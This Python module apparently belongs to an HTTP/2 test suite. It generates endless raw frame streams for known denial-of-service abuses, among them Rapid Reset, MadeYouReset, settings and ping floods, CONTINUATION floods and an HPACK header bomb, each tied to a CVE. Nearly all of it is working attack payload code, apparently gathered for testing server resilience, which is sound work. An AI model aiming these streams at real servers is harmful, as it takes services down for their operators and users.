"""What attackers send: each an endless stream of steps, of a known number of frames, that h2 itself would bear."""

from __future__ import annotations

import itertools
import struct
from collections.abc import Callable, Iterator

from wire.h2.raw import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PADDED,
    PING,
    POST,
    REQUEST,
    frame,
    headers,
    priority,
    rst,
    settings,
    window_update,
)

Steps = Iterator[tuple[int, bytes]]
"""Frames in a step, and their bytes."""


def _streams() -> Iterator[int]:
    return itertools.count(1, 2)


def _open(stream: int) -> bytes:
    return headers(stream, POST, END_HEADERS)


def rapid_reset() -> Steps:
    """CVE-2023-44487."""
    for stream in _streams():
        yield 2, headers(stream) + rst(stream)


def rapid_reset_of_uploads() -> Steps:
    for stream in _streams():
        yield 3, _open(stream) + frame(DATA, 0, stream, b"x" * 100) + rst(stream)


def made_you_reset_by_window() -> Steps:
    """CVE-2025-8671: the server is made to do the resetting, here by a window that overflows."""
    for stream in _streams():
        yield 2, _open(stream) + window_update(stream, 2**31 - 1)


def made_you_reset_by_nothing() -> Steps:
    for stream in _streams():
        yield 2, _open(stream) + window_update(stream, 0)


def made_you_reset_by_length() -> Steps:
    for stream in _streams():
        yield 2, headers(stream, [*POST, (b"content-length", b"1")], END_HEADERS) + frame(DATA, 0, stream, b"xx")


def made_you_reset_by_malformed_heads() -> Steps:
    for stream in _streams():
        yield 1, headers(stream, [*REQUEST, (b"connection", b"close")])


def made_you_reset_by_data_after_the_end() -> Steps:
    for stream in _streams():
        yield 2, headers(stream) + frame(DATA, 0, stream, b"more")


def empty_names() -> Steps:
    """CVE-2019-9516."""
    for stream in _streams():
        yield 1, headers(stream, [*REQUEST, (b"", b"")])


def settings_flood() -> Steps:
    """CVE-2019-9515."""
    while True:
        yield 1, settings()


def many_settings_at_once() -> Steps:
    while True:
        yield 1, settings(*[(0xFF, 1)] * 2700)


def settings_that_move_windows() -> Steps:
    for size in itertools.cycle((0, 65535)):
        yield 1, settings((4, size))


def settings_acknowledged_unasked() -> Steps:
    while True:
        yield 1, settings(flags=ACK)


def ping_flood() -> Steps:
    """CVE-2019-9512."""
    while True:
        yield 1, frame(PING, 0, 0, b"flooding")


def pings_answered_unasked() -> Steps:
    while True:
        yield 1, frame(PING, ACK, 0, b"flooding")


def priority_flood() -> Steps:
    """CVE-2019-9513."""
    for stream in itertools.cycle(range(1, 2000, 2)):
        yield 1, priority(stream, on=stream + 2)


def empty_data() -> Steps:
    """CVE-2019-9518."""
    yield 1, _open(1)
    while True:
        yield 1, frame(DATA, 0, 1)


def data_of_padding() -> Steps:
    yield 1, _open(1)
    while True:
        yield 1, frame(DATA, PADDED, 1, b"\xff" + bytes(255))


def data_of_one_byte() -> Steps:
    yield 1, _open(1)
    while True:
        yield 1, frame(DATA, 0, 1, b"x")


def window_updates() -> Steps:
    while True:
        yield 1, window_update(0, 1)


def window_updates_of_a_stream() -> Steps:
    yield 1, _open(1)
    while True:
        yield 1, window_update(1, 1)


def window_updates_of_a_closed_stream() -> Steps:
    yield 1, headers(1)
    while True:
        yield 1, window_update(1, 1)


def dribbled_answers() -> Steps:
    """CVE-2019-9511: the answer is fetched byte by byte."""
    yield 2, settings((4, 0)) + headers(1)
    while True:
        yield 1, window_update(1, 1)


def zero_windows() -> Steps:
    """CVE-2019-9517: answers that nobody takes."""
    yield 1, settings((4, 0))
    for stream in _streams():
        yield 1, headers(stream)


def unknown_frames() -> Steps:
    while True:
        yield 1, frame(0xBB, 0, 0, b"x" * 100)


def continuation_flood() -> Steps:
    """CVE-2024-27316 and its kin."""
    yield 1, frame(HEADERS, END_STREAM, 1, b"\x82\x86\x84")
    while True:
        yield 1, frame(CONTINUATION, 0, 1, b"\x00\x01x" + b"\x7f\x81\x7f" + b"y" * 16000)


def small_continuations() -> Steps:
    yield 1, frame(HEADERS, END_STREAM, 1, b"\x82\x86\x84")
    while True:
        yield 1, frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y")


def empty_continuations() -> Steps:
    yield 1, frame(HEADERS, END_STREAM, 1, b"\x82\x86\x84")
    while True:
        yield 1, frame(CONTINUATION, 0, 1)


def header_bomb() -> Steps:
    """CVE-2016-6581: a large entry, and thousands of indexes of it."""
    head = b"\x82\x86\x84\x01\x01a"
    yield 1, headers(1, raw=head + b"\x40\x01x\x7f\x81\x1e" + b"y" * (0x7F + 1 + 30 * 128))
    for stream in itertools.count(3, 2):
        yield 1, headers(stream, raw=head + b"\xbe" * 16000)


def heads_too_large() -> Steps:
    many = [(b"x-%d" % n, b"y") for n in range(200)]
    for stream in _streams():
        yield 1, headers(stream, [*REQUEST, *many])


def resets_of_closed_streams() -> Steps:
    yield 1, headers(1)
    while True:
        yield 1, rst(1)


def headers_of_closed_streams() -> Steps:
    yield 2, _open(1) + rst(1)
    while True:
        yield 1, headers(1)


def data_of_closed_streams() -> Steps:
    yield 2, _open(1) + rst(1)
    while True:
        yield 1, frame(DATA, 0, 1, b"x" * 10)


def streams_beyond_the_limit() -> Steps:
    for stream in _streams():
        yield 1, _open(stream)


def goaway_flood() -> Steps:
    while True:
        yield 1, frame(GOAWAY, 0, 0, struct.pack(">LL", 0, 0))


ABUSES: dict[str, Callable[[], Steps]] = {
    name: made
    for name, made in globals().items()
    if callable(made) and getattr(made, "__module__", "") == __name__ and not name.startswith("_")
}
